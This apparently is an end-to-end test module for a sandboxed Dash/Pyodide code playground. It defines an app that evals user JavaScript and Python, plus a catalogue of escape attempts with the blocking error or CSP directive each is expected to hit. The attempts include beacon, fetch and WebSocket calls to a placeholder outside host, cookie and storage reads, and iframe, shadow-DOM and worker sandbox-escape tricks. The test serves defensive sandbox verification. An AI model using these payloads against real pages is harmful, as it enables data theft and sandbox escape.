"""An app that tries to get out of its frame, and what it tries (architecture D10).

One app, which runs what it is told: JavaScript in a clientside callback, Python in a callback.  An
attempt is over when the browser has said no: by an exception, by an event of the policy, or by
an answer that has nothing in it.
"""

from __future__ import annotations

from tests.e2e.playground import Outside, Playground

HOSTILE = """
from dash import Dash, Input, Output, State, callback, clientside_callback, dcc, html

app = Dash(__name__)
app.layout = html.Div([
    dcc.Textarea(id="code"), html.Button("js", id="js"), html.Button("py", id="py"),
    html.Pre("-", id="js-out"), html.Pre("-", id="py-out"),
])
clientside_callback(
    '''async (n, code) => {
        if (!n) return "-";
        const refused = new Promise((resolve) =>
            document.addEventListener("securitypolicyviolation", (event) =>
                resolve(n + " refused: " + event.effectiveDirective), {once: true}));
        try {
            const answer = await eval("(async () => {" + code + "})()");
            return answer === undefined ? await refused : n + " answer: " + answer;
        } catch (error) {
            return n + " refused: " + error.name + ": " + error.message;
        }
    }''',
    Output("js-out", "children"), Input("js", "n_clicks"), State("code", "value"),
)


@callback(Output("py-out", "children"), Input("py", "n_clicks"), State("code", "value"),
          prevent_initial_call=True)
async def run(n, code):
    scope = {}
    exec("async def attempt():\\n" + code, scope)
    try:
        return f"{n} answer: {await scope['attempt']()}"
    except Exception as error:
        return f"{n} refused: {type(error).__name__} {error}"
"""

NOTHING = "answer: "

JAVASCRIPT = {
    "fetch": ("await fetch('OUT/fetch'); return 'fetched'", "TypeError: Failed to fetch"),
    "fetch without CORS": (
        "await fetch('OUT/nocors', {mode: 'no-cors'}); return 'fetched'",
        "TypeError: Failed to fetch",
    ),
    "fetch from the host": ("await fetch('HOST'); return 'fetched'", "TypeError: Failed to fetch"),
    "fetch a file of the host": (
        "await fetch('HOSTpyrt-lock.json'); return 'fetched'",
        "TypeError: Failed to fetch",
    ),
    "image": ("new Image().src = 'OUT/image'", "img-src"),
    "image of the host": ("new Image().src = 'HOSTimage.png'", "img-src"),
    "style": ("document.body.style.background = 'url(OUT/style)'", "img-src"),
    "style sheet": ("add('link', {rel: 'stylesheet', href: 'OUT/sheet'})", "style-src-elem"),
    "import in a style": (
        "add('style', {textContent: '@import url(OUT/import)'})",
        "style-src-elem",
    ),
    "font": (
        "add('style', {textContent: '@font-face{font-family:q;src:url(OUT/font)}'});"
        "add('p', {textContent: 'x', style: 'font-family:q'})",
        "font-src",
    ),
    "script": ("add('script', {src: 'OUT/script.js'})", "script-src-elem"),
    "module": (
        "await import('OUT/module.js'); return 'imported'",
        "TypeError: Failed to fetch dynamically imported module",
    ),
    "prefetch": ("add('link', {rel: 'prefetch', href: 'OUT/prefetch'})", "default-src"),
    "preload": (
        "add('link', {rel: 'preload', as: 'script', href: 'OUT/preload'})",
        "script-src-elem",
    ),
    "module preload": (
        "add('link', {rel: 'modulepreload', href: 'OUT/modulepreload'})",
        "script-src-elem",
    ),
    "module in HTML": ("add('script', {type: 'module', src: 'OUT/mod.js'})", "script-src-elem"),
    "import in a module": (
        "const a = `import 'OUT/imported.js'`;"
        "await import(URL.createObjectURL(new Blob([a], {type: 'text/javascript'})));"
        "return 'imported'",
        "TypeError: Failed to fetch dynamically imported module",
    ),
    "icon": ("add('link', {rel: 'icon', href: 'OUT/icon'})", "img-src"),
    "web socket": ("new WebSocket('OUT/socket'.replace('http', 'ws'))", "connect-src"),
    "event source": ("new EventSource('OUT/events')", "connect-src"),
    "beacon": ("navigator.sendBeacon('OUT/beacon', 'x')", "connect-src"),
    "ping": (
        # Past the player's own way of following links.
        "const a = add('a', {href: '#x', ping: 'OUT/ping'});"
        "a.onclick = (event) => event.stopPropagation(); a.click()",
        "connect-src",
    ),
    "frame": ("add('iframe', {src: 'OUT/frame'})", "frame-src"),
    "data frame": ("add('iframe', {src: 'data:text/html,<img src=OUT/data-frame>'})", "frame-src"),
    "object": ("add('object', {data: 'OUT/object'})", "object-src"),
    "video": ("add('video', {src: 'OUT/video'})", "media-src"),
    "base": ("add('base', {href: 'OUT/'})", "base-uri"),
    "cookie of the host": ("return document.cookie", NOTHING),
    "storage of the host": ("return localStorage.getItem('secret') ?? ''", NOTHING),
    "session of the host": ("return sessionStorage.getItem('secret') ?? ''", NOTHING),
    "database": ("indexedDB.open('x'); return 'opened'", "SecurityError: Failed to execute 'open'"),
    "caches": (
        "await caches.keys(); return 'opened'",
        "SecurityError: Failed to read the 'caches'",
    ),
    "own file system": (
        "await navigator.storage.getDirectory(); return 'opened'",
        "SecurityError: Storage directory access",
    ),
    "service worker": (
        "await navigator.serviceWorker.register('HOSTframe.html'); return 'there'",
        "SecurityError: Failed to read the 'serviceWorker'",
    ),
    "page around": (
        "return parent.document.title",
        "SecurityError: Failed to read a named property 'document'",
    ),
    "storage of the page around": (
        "return parent.localStorage.secret",
        "SecurityError: Failed to read a named property 'localStorage'",
    ),
    "location of the page around": (
        "return String(parent.location)",
        "SecurityError: Failed to read a named property from 'Location'",
    ),
    "navigate top": (
        "top.location = 'OUT/top'; return 'gone'",
        "SecurityError: Failed to set a named property 'href'",
    ),
    "popup": ("return window.open('OUT/popup') ?? ''", NOTHING),
    "out of the sandbox": ("return frameElement ?? ''", NOTHING),
    "frame inside": (
        "const f = add('iframe', {srcdoc: '<p>x'});"
        "await new Promise((r) => (f.onload = r)); return f.contentWindow.document.body",
        "SecurityError: Failed to read a named property 'document'",
    ),
    "script in a frame inside": (
        "return await inside('<script>parent.postMessage(`ran`, `*`)<' + '/script>')",
        NOTHING,
    ),
    "handler in a frame inside": (
        "return await inside('<img src=x onerror=`parent.postMessage("
        "&quot;ran&quot;,&quot;*&quot;)`>')",
        NOTHING,
    ),
    "data script in a frame inside": (
        "return await inside('<script src="
        "data:text/javascript,parent.postMessage(`ran`,`*`)><' + '/script>')",
        NOTHING,
    ),
    "calls of a frame inside": (
        "return add('iframe', {}).contentWindow.RTCPeerConnection",
        "SecurityError: Failed to read a named property 'RTCPeerConnection'",
    ),
    "script in a frame in a shadow tree": (
        "const said = heard(window);"
        "const shadow = add('div', {}).attachShadow({mode: 'closed'});"
        "shadow.innerHTML = '<iframe srcdoc=\"<script>parent.postMessage(`ran`, `*`)<' +"
        "'/script>\"></iframe>'; return await quiet(said, shadow.firstChild)",
        NOTHING,
    ),
    "script in a frame that has lost its sandbox": (
        "const frame = add('iframe', {srcdoc: '', sandbox: ''});"
        "await new Promise((done) => (frame.onload = done)); const said = heard(window);"
        "frame.removeAttribute('sandbox');"
        "frame.srcdoc = '<script>parent.postMessage(`ran`, `*`)<' + '/script>';"
        "return await quiet(said, frame)",
        NOTHING,
    ),
    "script in a cloned shadow tree": (
        "const host = document.createElement('div');"
        "host.attachShadow({mode: 'open', clonable: true}).innerHTML ="
        "'<iframe srcdoc=\"<script>parent.postMessage(`ran`, `*`)<' + '/script>\"></iframe>';"
        "const said = heard(window); const clone = host.cloneNode(true);"
        "document.body.append(clone);"
        "return await quiet(said, clone.shadowRoot?.firstChild ?? add('iframe', {srcdoc: ''}))",
        NOTHING,
    ),
    "code in the address of a frame inside": (
        "const said = heard(window);"
        "const frame = add('iframe', {src: 'javascript:parent.postMessage(`ran`, `*`)'});"
        "return await quiet(said, add('iframe', {srcdoc: ''}))",
        NOTHING,
    ),
    "image in a frame inside": ("return await inside('<img src=OUT/inner>')", NOTHING),
    "worker": (
        "return await work('fetch(`OUT/worker`).then(() => postMessage(`out`),"
        " (e) => postMessage(``))')",
        NOTHING,
    ),
    "import in a worker": (
        "return await work('try { importScripts(`OUT/scripts`);"
        " postMessage(`out`) } catch { postMessage(``) }')",
        NOTHING,
    ),
    "worker from outside": (
        "new Worker('OUT/worker.js'); return 'made'",
        "SecurityError: Failed to construct 'Worker'",
    ),
    "call": (
        "const call = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:UDP'}]});"
        "call.createDataChannel('x'); await call.setLocalDescription(await call.createOffer());"
        "return 'calling'",
        "ReferenceError: RTCPeerConnection is not defined",
    ),
    "camera": (
        "await navigator.mediaDevices.getUserMedia({video: true}); return 'seen'",
        "SecurityError: Invalid security origin",
    ),
    "place": (
        "return await new Promise((yes, no) => navigator.geolocation"
        ".getCurrentPosition(() => yes('found'), (e) => no(new Error(e.message))))",
        "Error: Geolocation has been disabled in this document by permissions policy",
    ),
}
"""Name -> body of an async function, and who refuses: a directive of the policy, the beginning of
an error, or nobody, and then there is nothing to see.  Without an answer, the policy's event is
waited for.
OUT is the address of the other host, HOST that of the player."""

HELPERS = """
const add = (tag, props) => {
    const {style, ...rest} = props;
    const element = Object.assign(document.createElement(tag), rest);
    if (style) element.style = style;
    (tag === 'link' || tag === 'base' ? document.head : document.body).append(element);
    return element;
};
const heard = (target) => new Promise((resolve) =>
    target.addEventListener('message', ({data, source}) => {
        if (source !== parent) resolve(data);
    }));
const quiet = (said, frame) => Promise.race([said, new Promise((done) => (frame.onload = () =>
    requestAnimationFrame(() => requestAnimationFrame(() => done('')))))]);
const inside = (html) => {
    const said = heard(window);
    return quiet(said, add('iframe', {srcdoc: html}));
};
const work = (code) => heard(new Worker('data:text/javascript,' + encodeURIComponent(code)));
"""

PYTHON = {
    "fetch": (
        "from js import fetch\nawait fetch('OUT/py-fetch')\nreturn 'fetched'",
        "JsException TypeError: Failed to fetch",
    ),
    "pyfetch": (
        "from pyodide.http import pyfetch\nawait pyfetch('OUT/pyfetch')\nreturn 'fetched'",
        "AbortError Failed to fetch",
    ),
    "urllib": (
        "import urllib.request\nreturn urllib.request.urlopen('OUT/urllib', timeout=5).read()",
        "URLError <urlopen error No answer from",
    ),
    "request": (
        "from js import XMLHttpRequest\nr = XMLHttpRequest.new()\n"
        "r.open('GET', 'OUT/request', False)\nr.send()\nreturn r.responseText",
        "JsException NetworkError: Failed to execute 'send'",
    ),
    "request of the host": (
        "from js import XMLHttpRequest\nr = XMLHttpRequest.new()\n"
        "r.open('GET', 'HOSTpyrt-lock.json', False)\nr.send()\nreturn r.responseText",
        "JsException NetworkError: Failed to execute 'send'",
    ),
    "web socket": (
        "from js import WebSocket\nfrom asyncio import Future\n"
        "from pyodide.ffi import create_once_callable\n"
        "w = WebSocket.new('OUT/py'.replace('http', 'ws'))\n"
        "f = Future()\nw.onerror = create_once_callable(lambda e: f.set_result(''))\n"
        "return await f",
        NOTHING,
    ),
    "worker": (
        "from js import Worker\nfrom asyncio import Future\n"
        "from pyodide.ffi import create_once_callable\n"
        "w = Worker.new('data:text/javascript,fetch(`OUT/py-worker`)"
        ".then(() => postMessage(`out`), () => postMessage(``))')\n"
        "f = Future()\nw.onmessage = create_once_callable(lambda e: f.set_result(e.data))\n"
        "return await f",
        NOTHING,
    ),
    "import": (
        "import js\njs.eval('WorkerGlobalScope.prototype.importScripts')\n"
        "return js.WorkerGlobalScope.prototype.importScripts.call(js.self, 'OUT/py-import')",
        "JsException NetworkError: Failed to execute 'importScripts'",
    ),
    "document": (
        "from js import document\nreturn document.cookie",
        "ImportError cannot import name 'document'",
    ),
    "storage": (
        "from js import localStorage\nreturn localStorage.getItem('secret')",
        "ImportError cannot import name 'localStorage'",
    ),
    "database": (
        "from js import indexedDB\nindexedDB.open('x')\nreturn 'opened'",
        "JsException SecurityError: Failed to execute 'open'",
    ),
}

NAVIGATIONS = {
    "address": "location = 'OUT/self'",
    "link": "add('a', {href: 'OUT/link'}).click()",
    "form": "add('form', {action: 'OUT/form', method: 'post'}).submit()",
    "refresh": "add('meta', {httpEquiv: 'refresh', content: '0;url=OUT/refresh'})",
}
"""The frame itself may be sent away, but not to where anybody would hear of it."""


def told(code: str, outside: Outside, playground: Playground) -> str:
    code = code.replace("OUT", outside.url).replace("HOST", playground.url)
    return code.replace("UDP", str(outside.udp_port))
